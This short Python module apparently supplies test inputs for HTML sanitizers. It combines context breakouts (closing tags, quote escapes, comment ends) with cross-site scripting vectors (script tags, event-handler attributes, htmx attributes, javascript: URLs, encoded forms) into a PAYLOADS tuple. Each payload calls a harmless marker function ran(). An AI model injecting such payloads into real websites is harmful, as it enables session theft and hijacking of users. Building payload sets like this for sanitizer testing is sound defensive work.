"""Words that are scripts to whoever takes them for markup: each breaks out of one place and runs in one way.

All of them call `ran()`.
"""

from __future__ import annotations

from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</p>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "-->",
    "]]>",
    '" x="',
    "</style></noscript>",
)

WAYS_TO_RUN = (
    "<script>ran()</script>",
    "<ScRiPt/x>ran()</sCrIpT>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    "<body onpageshow=ran()>",
    '<a autofocus tabindex=1 href="javascript:ran()" onfocus=ran()>',
    '<div hx-get="/" hx-trigger="load" hx-on::before-request="ran()">',
    "<div hx-on:htmx:load=ran()>",
    '<object data="javascript:ran()">',
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    " onpointerenter=ran() onfocus=ran() autofocus style=animation-name:x onanimationstart=ran() ",
)

PAYLOADS = tuple(out + run for out, run in product(WAYS_OUT, WAYS_TO_RUN))
